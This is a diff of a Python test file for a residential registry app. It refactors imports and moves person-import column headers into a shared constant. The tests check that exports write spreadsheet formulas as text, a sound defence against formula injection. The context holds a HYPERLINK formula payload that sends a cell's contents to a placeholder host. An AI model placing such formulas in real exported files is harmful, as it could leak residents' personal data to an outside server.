@@ -17,7 +17,14 @@ from openpyxl import load_workbook
 from shequ.org import services as org_services
 from shequ.registry import services
 from tests.conftest import make_unit
-from tests.factories import HEFEI_YAOHAI, make_building, make_household, make_person, tabular_file
+from tests.factories import (
+    HEFEI_YAOHAI,
+    PERSON_IMPORT_HEADERS,
+    make_building,
+    make_household,
+    make_person,
+    tabular_file,
+)
 from tests.factories import id_number as new_id_number
 
 PAYLOAD = '=HYPERLINK("http://x.invalid/?"&B2,"楼")'
@@ -138,15 +145,7 @@ def test_audit_log_export_writes_formulas_as_text(web, people, tree, fmt):
 
 @pytest.mark.parametrize("fmt", FORMATS)
 def test_import_problem_list_writes_formulas_as_text(web, people, bad_building, fmt):
-    headers = [
-        "公民身份号码",
-        "姓名",
-        "户籍地代码",
-        "单位代码",
-        "楼栋名称",
-        "门牌/室号",
-        "婚姻状况",
-    ]
+    headers = PERSON_IMPORT_HEADERS
     row = [new_id_number(), "", "340603000000", "34060302000101", PAYLOAD, "1", "未婚"]
     content = tabular_file(headers, [row], "csv")  # openpyxl would store a formula
     client = web.as_(people.worker_a)
